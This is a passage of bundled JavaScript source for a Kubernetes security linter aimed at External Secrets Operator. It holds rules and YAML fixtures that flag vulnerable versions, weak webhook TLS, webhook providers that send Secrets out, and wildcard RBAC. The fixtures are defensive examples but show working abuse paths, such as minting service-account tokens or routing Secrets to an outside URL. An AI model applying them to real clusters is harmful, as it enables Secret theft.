    - expression: "request.userInfo.username == 'system:serviceaccount:eso:external-secrets'"
`
  ],
  *checkInstall(install, world) {
    if (install !== world.eso.installs.find(({ controller }) => controller)) return;
    if (world.admission.seesSecrets || world.of(AUDIT_POLICY_KIND).some(logsChanges)) return;
    yield {
      object: null,
      path: [],
      message: "no audit policy in the set logs changes of Secrets, and no admission policy in it judges them"
    };
  },
  fix: () => unsafe(LOGGED, generated("audit-policy"))
});
var LOGGED = "May the log of the API server grow by an entry for each change of a Secret?";
var logsChanges = (policy) => ["update", "patch"].every((verb) => {
  const decision = decisionOn(policy, { group: "", resource: "secrets", isNamespaced: true, verb });
  return decision?.level === void 0 || logs(decision.level, "Metadata");
});

// src/model/eso/advisory-uses.ts
var callsOf = (name) => (manifest) => templatesOf(manifest).filter(({ text }) => actionsOf(text).some(({ functions }) => functions.includes(name))).map(({ path }) => ({ path, message: `calls ${name} here` }));
function tokenSecrets(manifest) {
  if (!FETCHING_KINDS.includes(manifest.groupKind)) return [];
  const path = [...templatePathOf(manifest) ?? [], "type"];
  return manifest.get(...path) === "kubernetes.io/service-account-token" ? [{ path, message: "makes a Secret of type service-account-token here" }] : [];
}
function foreignConfigMaps(manifest) {
  if (manifest.groupKind !== `${ESO_GROUP}/SecretStore` || manifest.namespace === void 0) return [];
  const provider = ["spec", "provider"];
  return [...nodesUnder(manifest.get(...provider), provider)].flatMap(([path, node]) => {
    const namespace = asText(asMapping(node)?.namespace);
    const isForeign = namespace && namespace !== manifest.namespace && !isPlaceholder(namespace);
    return path.at(-1) === "caProvider" && valueAt(node, ["type"]) === "ConfigMap" && isForeign ? [{ path: [...path, "namespace"], message: `reads a ConfigMap of namespace ${namespace} here` }] : [];
  });
}
function labelSelectors(manifest) {
  const spec = specPathOf(manifest);
  if (!spec || !PUSHING_KINDS.includes(manifest.groupKind)) return [];
  const refs = [...spec, "secretStoreRefs"];
  const paths = [
    [...spec, "selector", "secret", "selector"],
    ...asList(manifest.get(...refs)).map((_, i) => [...refs, i, "labelSelector"])
  ];
  return paths.filter((path) => asMapping(manifest.get(...path))).map((path) => ({ path, message: "chooses by labels here" }));
}
function* nodesUnder(value, path) {
  yield [path, value];
  const entries = Array.isArray(value) ? value.entries() : Object.entries(asMapping(value) ?? {});
  for (const [step, child] of entries) yield* nodesUnder(child, [...path, step]);
}

// src/model/eso/advisories.ts
var USES = {
  "CVE-2025-55196": labelSelectors,
  "CVE-2026-22822": callsOf("getSecretKey"),
  // The published range begins at 2.0.0. Older versions have the function too: 0.19.2 takes only env and expandenv out.
  "CVE-2026-34984": callsOf("getHostByName"),
  "CVE-2026-42875": foreignConfigMaps,
  "CVE-2026-42876": tokenSecrets
};
var ADVISORIES = DATED.advisories.map((advisory) => ({
  ...advisory,
  ...USES[advisory.id] && { usesIn: USES[advisory.id] }
}));
var advisoriesFor = (version) => ADVISORIES.filter(
  ({ since, fixed }) => compareVersions(version, fixed) < 0 && (since === void 0 || compareVersions(version, since) >= 0)
);

// src/rules/vulnerable-eso-version.ts
var vulnerable_eso_version_default = defineRule({
  id: "vulnerable-eso-version",
  title: "The version of External Secrets Operator has a known weakness",
  severities: ["high"],
  kinds: WORKLOAD_KINDS,
  why: "The weakness is published, and so is the way to use it. Most of them let whoever may write one custom resource in one namespace read the Secrets of others.",
  remedy: "Upgrade to a version that has the fix. Until then, let an admission policy refuse the custom resources that the advisory is about.",
  references: [
    "https://github.com/external-secrets/external-secrets/security/advisories",
    "https://github.com/advisories/GHSA-qwgc-rr35-h4x9",
    "https://github.com/advisories/GHSA-fcxq-v2r3-cc8h",
    "https://github.com/advisories/GHSA-77v3-r3jw-j2v2",
    "https://github.com/advisories/GHSA-r2pg-r6h7-crf3",
    "https://github.com/advisories/GHSA-wv26-88m5-6h59",
    "https://github.com/advisories/GHSA-fq7h-9x26-6j22"
  ],
  guide: ["TM1"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.4.0-ubi # finding: External Secrets Operator 2.4.0 has CVE-2026-42876, fixed in 2.4.1: an ExternalSecret of type service-account-token makes a lasting token of any ServiceAccount in its namespace (used by ExternalSecret shop/deployer)
---
# Once for each install, at its controller.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: webhook, image: "ghcr.io/external-secrets/external-secrets:v2.4.0-ubi", args: [webhook] }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: deployer, namespace: shop }
spec:
  target:
    template:
      type: kubernetes.io/service-account-token
      metadata: { annotations: { kubernetes.io/service-account.name: deployer } }
`,
    `
# A pre-release is older than its release. The version label counts where the image has no tag.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso, labels: { app.kubernetes.io/version: v2.4.1-rc1 } }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets@sha256:0b6a027b5cf322f09f6706c754e086a232ec1ddba835c8a15c6cb74ef0d43c29 # finding: External Secrets Operator 2.4.1-rc1 has CVE-2026-42876
`
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.4.1-ubi" }
---
# What the advisories are about is no finding by itself.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: deployer, namespace: shop }
spec:
  target:
    template:
      type: kubernetes.io/service-account-token
`,
    `
# Nobody says which version this is: the label is the chart's, and the tag is not a version.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso, labels: { app.kubernetes.io/version: v0.9.20 } }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "registry.example.com/external-secrets:\${ESO_VERSION}" }
`
  ],
  *check(manifest, world) {
    const component = world.eso.componentOf(manifest);
    if (component?.role !== "controller" || component.version === void 0) return;
    for (const advisory of advisoriesFor(component.version)) {
      const related = usesOf(advisory, world);
      const users2 = [...new Set(related.map((use) => nameOf(use.manifest)))].join(", ");
      yield {
        path: [...component.container.path, "image"],
        discriminator: advisory.id,
        message: `External Secrets Operator ${component.version} has ${advisory.id}, fixed in ${advisory.fixed}: ${advisory.what}${users2 && ` (used by ${users2})`}`,
        related
      };
    }
  }
});
var usesOf = ({ usesIn }, { manifests }) => usesIn ? manifests.flatMap((manifest) => usesIn(manifest).map((use) => ({ manifest, ...use }))) : [];

// src/rules/weak-webhook-tls.ts
var weak_webhook_tls_default = defineRule({
  id: "weak-webhook-tls",
  title: "The operator's webhook accepts an old version of TLS or a weak cipher",
  severities: ["low"],
  kinds: WORKLOAD_KINDS,
  why: "The API server sends every store and ExternalSecret that somebody writes to the webhook. Whoever can listen between the two and break a weak connection reads them, and may change the answer.",
  remedy: "Leave `webhook.extraArgs.tls-min-version` out (the default is 1.2) or set it to 1.2 or 1.3, and keep only ciphers with forward secrecy and authenticated encryption in `webhook.extraArgs.tls-ciphers`, such as `TLS_ECDHE_ECDSA_WITH_AES_256_GCM_SHA384`.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://datatracker.ietf.org/doc/html/rfc9325"
  ],
  guide: ["NS3"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: webhook
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args:
            - webhook
            - --tls-min-version=1.1 # finding: the webhook accepts TLS 1.1
            - --tls-ciphers=TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256,TLS_RSA_WITH_AES_128_GCM_SHA256,TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA # finding: the webhook accepts the weak ciphers TLS_RSA_WITH_AES_128_GCM_SHA256, TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA
`,
    `
# An empty value is the oldest version there is, not the default.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: webhook
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args:
            - webhook
            - --tls-min-version= # finding: the webhook accepts TLS 1.0
`
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: webhook
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args:
            - webhook
            - --tls-min-version=1.3
            - --tls-ciphers=TLS_ECDHE_ECDSA_WITH_CHACHA20_POLY1305_SHA256,TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384,TLS_AES_128_GCM_SHA256,\${MORE}
---
# The controller has no such server.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: ["--tls-min-version=1.0"] }
`
  ],
  *check(workload, { eso }) {
    const component = eso.componentOf(workload);
    if (component?.role !== "webhook") return;
    const flags = flagsOf(component);
    const version = flags.get("tls-min-version");
    const old = version && OLD_VERSIONS.get(version.value.trim());
    if (version && old) yield { path: version.path, message: `the webhook accepts TLS ${old}` };
    const ciphers = flags.get("tls-ciphers");
    const weak = (ciphers?.value ?? "").split(",").map((name) => name.trim()).filter(isWeak);
    if (ciphers && weak.length > 0)
      yield {
        path: ciphers.path,
        message: `the webhook accepts the weak ${weak.length > 1 ? "ciphers" : "cipher"} ${weak.join(", ")}`
      };
  },
  fix(fault) {
    const word = fault.manifest?.get(...fault.path);
    if (typeof word !== "string" || !word.startsWith("--tls-min-version=")) return void 0;
    return fault.manifest?.template === void 0 ? safe(setting(fault.path, "--tls-min-version=1.2")) : safe(chartValues(fault, { "webhook.extraArgs.tls-min-version": "1.2" }));
  }
});
var OLD_VERSIONS = /* @__PURE__ */ new Map([
  ["", "1.0"],
  ["1.0", "1.0"],
  ["1.1", "1.1"]
]);
var isWeak = (cipher) => cipher.startsWith("TLS_") && !isPlaceholder(cipher) && !/^TLS_(?:ECDHE_(?:ECDSA|RSA)_WITH_)?(?:AES_\d+_GCM|CHACHA20_POLY1305)(?:_|$)/.test(cipher);

// src/rules/webhook-configuration-write-access.ts
var webhook_configuration_write_access_default = defineRule({
  id: "webhook-configuration-write-access",
  title: "Admission webhooks of any name can be changed",
  severities: ["high"],
  kinds: ["rbac.authorization.k8s.io/ClusterRole"],
  why: "Whoever changes an admission webhook switches it off, or points it at a server of their own and reads every object that is written, Secrets included; a mutating one may rewrite them.",
  remedy: "Upgrade the operator to 0.10.2 or later, whose cert-controller may change only its own two configurations; let cert-manager make the certificate (`webhook.certManager.enabled: true`), which leaves the cert-controller out; in a role of your own, list the names in `resourceNames`.",
  references: [
    "https://github.com/advisories/GHSA-qwgc-rr35-h4x9",
    "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#control-admission-webhooks"
  ],
  guide: ["RM6", "AC1"],
  bad: [
    `
# The cert-controller of the operator chart before 0.10.2.
apiVersion: apps/v1
kind: Deployment
metadata: { name: eso-certs, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: certs
      containers:
        - { name: certs, image: "registry.example.com/external-secrets:v0.9.20", args: [certcontroller] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-certs }
rules:
  - apiGroups: [admissionregistration.k8s.io]
    resources:
      - validatingwebhookconfigurations # finding: ServiceAccount eso/certs (in all namespaces) can update, patch ValidatingWebhookConfigurations of any name
    verbs: [get, list, watch, update, patch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-certs }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-certs }
subjects:
  - { kind: ServiceAccount, name: certs, namespace: eso }
---
apiVersion: cert-manager.io/v1
kind: ClusterIssuer
metadata: { name: self-signed }
spec:
  selfSigned: {}
`,
    `
# Whoever holds rights on the operator's kinds is judged, people too.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: team-lead }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get]
  - apiGroups: [admissionregistration.k8s.io]
    resources: ["*"] # finding: Group leads (in all namespaces) can patch ValidatingWebhookConfigurations and MutatingWebhookConfigurations of any name
    verbs: [patch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: team-lead }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: team-lead }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: leads }
`
  ],
  good: [
    `
# The cert-controller of today.
apiVersion: apps/v1
kind: Deployment
metadata: { name: eso-certs, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: certs
      containers:
        - { name: certs, image: "registry.example.com/external-secrets:v2.9.0", args: [certcontroller] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-certs }
rules:
  - apiGroups: [admissionregistration.k8s.io]
    resources: [validatingwebhookconfigurations]
    verbs: [list, watch, get]
  - apiGroups: [admissionregistration.k8s.io]
    resources: [validatingwebhookconfigurations]
    resourceNames: [secretstore-validate, externalsecret-validate]
    verbs: [update, patch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-certs }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-certs }
subjects:
  - { kind: ServiceAccount, name: certs, namespace: eso }
`,
    `
# cert-manager's CA injector is not this tool's business, and a RoleBinding gives nothing on cluster-scoped kinds.
apiVersion: apps/v1
kind: Deployment
metadata: { name: eso, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: eso
      containers:
        - { name: eso, image: "registry.example.com/external-secrets:v2.9.0" }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: ca-injector }
rules:
  - apiGroups: [admissionregistration.k8s.io]
    resources: [validatingwebhookconfigurations, mutatingwebhookconfigurations]
    verbs: [get, list, watch, update, patch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: ca-injector }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: ca-injector }
subjects:
  - { kind: ServiceAccount, name: ca-injector, namespace: cert-manager }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: eso, namespace: eso }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: ca-injector }
subjects:
  - { kind: ServiceAccount, name: eso }
`
  ],
  *check(role, world) {
    const grants = inScope(world.rbac.grantsOf(role), world).filter(({ namespace }) => namespace === void 0);
    for (const rule2 of grants.length > 0 ? policyRules(role) : []) {
      if (rule2.resourceNames.length > 0) continue;
      const given = WEBHOOKS.filter((access) => verbsGiven(rule2, access).length > 0);
      const [first] = given;
      if (first)
        yield {
          path: resourcePath(rule2, first.resource),
          message: `${holders(grants)} can ${verbsGiven(rule2, first).join(", ")} ${given.map(({ plural }) => plural).join(" and ")} of any name`,
          related: bindingsOf(grants)
        };
    }
  },
  fix: (fault) => fromCertManager(fault)
});
var WEBHOOKS = ["Validating", "Mutating"].map((sort) => ({
  group: "admissionregistration.k8s.io",
  resource: `${sort.toLowerCase()}webhookconfigurations`,
  plural: `${sort}WebhookConfigurations`,
  verbs: ["update", "patch"]
}));

// src/rules/webhook-provider.ts
var webhook_provider_default = defineRule({
  id: "webhook-provider",
  title: "A store or generator is a webhook, which sends a request to any URL",
  severities: ["medium"],
  kinds: kindsWith((connection) => connection === webhook_default2),
  needs: ["connections"],
  why: "A webhook makes the operator send any request that its author writes from inside the cluster, with Secrets in it, and take the answer for a secret. Whoever changes it carries data out, or reaches services that only the operator's pod can.",
  remedy: "Use the provider that is made for this service, where there is one. Where there is none, keep the store to operators, limit its namespaces, and let network policies admit only this host.",
  references: [
    "https://external-secrets.io/latest/provider/webhook/",
    "https://external-secrets.io/latest/guides/threat-model/"
  ],
  guide: ["AC1", "TM4"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: api, namespace: shop }
spec:
  provider:
    webhook: # finding: its requests, with any Secret in them, go to api.example.com
      url: https://api.example.com/{{ .remoteRef.key }}?token={{ .auth.token }}
      secrets: [{ name: auth, secretRef: { name: api } }]
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: anywhere }
spec:
  provider:
    webhook: { url: "{{ .remoteRef.key }}" } # finding: its requests, with any Secret in them, go to any URL
`,
    `
apiVersion: generators.external-secrets.io/v1alpha1
kind: Webhook
metadata: { name: token, namespace: shop }
spec: # finding: its requests, with any Secret in them, go to api.example.com
  url: https://api.example.com/token
  result: { jsonPath: $.token }
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: ClusterGenerator
metadata: { name: token }
spec:
  kind: Webhook
  generator:
    webhookSpec: # finding: go to api.example.com
      url: https://api.example.com/token
      result: { jsonPath: $.token }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault: { server: "https://vault.example.com" }
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: Password
metadata: { name: webhook, namespace: shop }
spec: { length: 42, allowRepeat: true, noUpper: false }
---
# A name is no kind.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: webhook, namespace: shop }
spec:
  provider: \${PROVIDER}
`
  ],
  *check(manifest) {
    const connected = connectedOf(manifest);
    if (!connected?.known || !WEBHOOKS2.includes(connected.known)) return;
    const host = parseAddress(asText(connected.config.url) ?? "")?.host;
    yield { path: connected.path, message: `its requests, with any Secret in them, go to ${host ?? "any URL"}` };
  }
});
var WEBHOOKS2 = [webhook_default, webhook_default2];

// src/check/wildcard-reach.ts
function reachOf3(role, rule2, world) {
  const covered = coveredBy(rule2);
  const all = world.rbac.grantsOf(role);
  const scoped = takesIn(covered) ? all.filter(({ subject }) => isInScope(subject, world)) : [];
  const outside = all.filter((grant) => isOutsider(grant, covered, world));
  const grants = all.filter((grant) => scoped.includes(grant) || outside.includes(grant));
  if (grants.length > 0)
    return {
      grants,
      severity: severityOf3(covered, scoped.length > 0, grants),
      says: describe(covered, scoped.length > 0)
    };
  const isHeld = all.length > 0 || [role, ...world.rbac.aggregatorsOf(role)].some((holder) => builtInAggregation(holder).length > 0);
  if (isHeld || !covered.isNamed || covered.writes.length === 0 || world.eso.isOwnPart(role)) return void 0;
  return { grants, severity: isHarmless(covered) ? "low" : "medium", says: describe(covered, false) };
}
function coveredBy(rule2) {
  return {
    rule: rule2,
    isNamed: namesGroup(rule2, ESO_GROUP) || namesGroup(rule2, GENERATORS_GROUP),
    writes: kindsFor2(rule2, ["create", "update", "patch", "delete"]),
    reads: kindsFor2(rule2, ["get", "list", "watch"]),
    secrets: rule2.resourceNames.length > 0 ? [] : verbsGiven(rule2, SECRET_ACCESS)
  };
}
var kindsFor2 = (rule2, verbs) => [
  ...new Set(
    ESO_RESOURCES.filter(
      (target) => verbsGiven(rule2, { group: groupOfResource(target), resource: target.resource, verbs }).length > 0
    ).map(({ plural }) => plural)
  )
];
var takesIn = ({ writes: writes2, reads, secrets }) => writes2.length + reads.length + secrets.length > 0;
function isOutsider({ subject, namespace }, { isNamed: isNamed2, writes: writes2 }, world) {
  if (isNamed2 || writes2.length === 0 || isUnknown(subject) || isInScope(subject, world)) return false;
  return (isHuman(subject) || namespace === void 0) && !world.isOperator(subject) && holdsEso(world);
}
function severityOf3(covered, hasScoped, grants) {
  if (hasScoped && covered.secrets.length > 0) return "high";
  if (isHarmless(covered)) return "low";
  return hasScoped || grants.some(({ subject }) => isHuman(subject)) ? "high" : "medium";
}
var isHarmless = ({ writes: writes2 }) => writes2.every((kind) => kind === EXTERNAL_SECRETS.plural);
function describe(covered, hasScoped) {
  const { rule: rule2, writes: writes2, reads, secrets } = covered;
  const kinds = writes2.length > 0 ? writes2 : reads;
  const names = rule2.resourceNames.length > 0 ? ` named ${rule2.resourceNames.join(", ")}` : "";
  return [
    ...kinds.length > 0 ? [`${writes2.length > 0 ? "write" : "read"} ${nameKinds(rule2, kinds)}${names}`] : [],
    ...hasScoped && secrets.length > 0 ? [`${secrets.join(", ")} Secrets`] : []
  ].join(" and ");
}
function nameKinds(rule2, kinds) {
  if (!rule2.resources.includes("*")) return kinds.join(", ");
  const groups = [ESO_GROUP, GENERATORS_GROUP].filter((group) => namesGroup(rule2, group));
  return groups.length === 1 && !rule2.apiGroups.includes("*") ? `every kind of ${groups[0]}` : "every kind of the operator";
}

// src/rules/wildcard-permissions.ts
var wildcard_permissions_default = defineRule({
  id: "wildcard-permissions",
  title: "A wildcard takes in the operator's kinds, or Secrets",
  severities: ["high", "medium", "low"],
  kinds: ROLE_KINDS,
  why: "A star gives more than anybody meant, and what comes later as well: with each new version of the operator its holder may write kinds that did not exist when the role was written.",
  remedy: "Name the API groups, resources and verbs that are needed: externalsecrets for developers, with get, list and watch on secretstores. Name operators under `operators` in this tool's config.",
  references: [
    "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#least-privilege",
    "https://external-secrets.io/latest/guides/security-best-practices/"
  ],
  guide: ["RM6", "TM6"],
  supersedes: [
    "cluster-wide-external-secret-access",
    "cluster-wide-secret-access",
    "developer-can-write-generators",
    "developer-can-write-push-secrets",
    "developer-can-write-secret-stores",
    "namespace-write-access",
    "unrestricted-token-creation",
    "webhook-configuration-write-access"
  ],
  bad: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: shop-secrets, namespace: shop }
rules:
  - apiGroups: [external-secrets.io]
    resources: ["*"] # finding: * in resources and verbs lets Group developers (in namespace shop) write every kind of external-secrets.io
    verbs: ["*"]
  - apiGroups: [external-secrets.io]
    resources: [secretstores]
    verbs:
      - "*" # finding: * in verbs lets Group developers (in namespace shop) write SecretStores
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: shop-secrets, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: shop-secrets }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
`,
    `
# Secrets count for those who hold rights on the operator's kinds, and its own ServiceAccounts need no star.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-controller }
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get]
  - apiGroups: [""]
    resources: ["*"] # finding: * in resources lets ServiceAccount eso/controller (in all namespaces) get, list Secrets
    verbs: [get, list]
  - apiGroups: [""]
    resources: [secrets]
    verbs: ["*"] # finding: * in verbs lets ServiceAccount eso/controller (in all namespaces) get, list, watch, create, update, patch, delete Secrets
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-controller }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-controller }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
`,
    `
# People with everything in their namespace write stores there. Another tool's rights matter here only over the whole
# cluster, where they take in the ClusterSecretStores.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec: { secretStoreRef: { name: vault }, target: { name: db } }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: everything }
rules:
  - apiGroups: ["*"]
    resources: ["*"] # finding: * in resources, verbs and apiGroups lets Group developers (in namespace shop) write every kind of the operator
    verbs: ["*"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: everything, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: everything }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
  - { kind: ServiceAccount, name: builder, namespace: shop }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: agent }
rules:
  - apiGroups: ["*"]
    resources: ["*"] # finding[medium]: lets ServiceAccount tools/agent (in all namespaces) write every kind of the operator
    verbs: [get, create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: agent }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: agent }
subjects:
  - { kind: ServiceAccount, name: agent, namespace: tools }
`,
    `
# Reading, and what developers write anyway, is a matter of tidiness.
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: shop-secrets, namespace: shop }
rules:
  - apiGroups: [external-secrets.io]
    resources: ["*"] # finding[low]: * in resources lets Group developers (in namespace shop) read every kind of external-secrets.io
    verbs: [get, list, watch]
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: ["*"] # finding[low]: * in verbs lets Group developers (in namespace shop) write ExternalSecrets
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: shop-secrets, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: shop-secrets }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-admin }
rules:
  - apiGroups: [external-secrets.io, generators.external-secrets.io]
    resources: ["*"] # finding[medium]: * in resources and verbs lets whoever gets this role write every kind of the operator
    verbs: ["*"]
`
  ],
  good: [
    `
# config: { operators: [{ kind: Group, name: platform }] }
# Operators may; stars of other groups, of subresources and on names take in nothing that matters here.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-operator }
rules:
  - apiGroups: [external-secrets.io, generators.external-secrets.io]
    resources: ["*"]
    verbs: ["*"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-operator }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-operator }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: platform }
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: "\${ADMINS}" }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: developer }
rules:
  - { apiGroups: [external-secrets.io], resources: [externalsecrets], verbs: [get, create, delete] }
  - { apiGroups: [external-secrets.io], resources: ["*/status"], verbs: [get] }
  - { apiGroups: [apps, batch], resources: ["*"], verbs: ["*"] }
  - { apiGroups: [""], resources: [pods, services], verbs: ["*"] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: developer, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: developer }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
`,
    `
# Other tools' stars are not this tool's business, nor are anybody's where the operator is not.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: everything }
rules:
  - apiGroups: ["*"]
    resources: ["*"]
    verbs: ["*"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: everything }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: everything }
subjects:
  - { kind: ServiceAccount, name: backup, namespace: backup }
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: admins }
`
  ],
  *check(role, world) {
    for (const rule2 of policyRules(role)) {
      const fields = wildFields(rule2);
      const [field] = fields;
      const reach = field && reachOf3(role, rule2, world);
      if (!field || !reach) continue;
      const who = reach.grants.length > 0 ? holders(reach.grants) : "whoever gets this role";
      yield {
        path: wildPath(rule2, field),
        severity: reach.severity,
        message: `* in ${joined(fields)} lets ${who} ${reach.says}`,
        related: bindingsOf(reach.grants)
      };
    }
  }
});

// src/rules/workload-identity-annotation-missing.ts
var workload_identity_annotation_missing_default = defineRule({
  id: "workload-identity-annotation-missing",
  title: "A ServiceAccount that a store signs in with is not bound to a role in the cloud",
  severities: ["medium", "info"],
  kinds: ["core/ServiceAccount"],
  needs: ["connections"],
  why: "The operator reads from the annotation whom the ServiceAccount stands for. Without it signing in to AWS fails, and the usual way out of that is a stored key or a role on the operator itself, which everybody then shares.",
  remedy: "Annotate the ServiceAccount: `eks.amazonaws.com/role-arn` on AWS (also where EKS Pod Identity is used elsewhere: the operator asks for it), `azure.workload.identity/client-id` on Azure. On Google Cloud `iam.gke.io/gcp-service-account` is needed only where access was given to a Google service account and not to the ServiceAccount itself.",
  references: [
    "https://external-secrets.io/latest/provider/aws-access/",
    "https://external-secrets.io/latest/provider/azure-key-vault/",
    "https://external-secrets.io/latest/provider/google-secrets-manager/"
  ],
  guide: ["PC1", "PC2"],
  bad: [
    `
apiVersion: v1
kind: ServiceAccount
metadata: # finding: AWS asks for its annotation eks.amazonaws.com/role-arn (SecretStore shop/aws signs in with it)
  name: shop
  namespace: shop
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: aws, namespace: shop }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1, auth: { jwt: { serviceAccountRef: { name: shop } } } }
`,
    `
apiVersion: v1
kind: ServiceAccount
metadata:
  name: google
  namespace: eso
  annotations: # finding[info]: Google Secret Manager reads from its annotation iam.gke.io/gcp-service-account whom it stands for
    team: shop
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: google }
spec:
  provider:
    gcpsm: { projectID: shop, auth: { workloadIdentity: { serviceAccountRef: { name: google, namespace: eso } } } }
---
apiVersion: v1
kind: ServiceAccount
metadata:
  name: registry
  namespace: shop
  annotations:
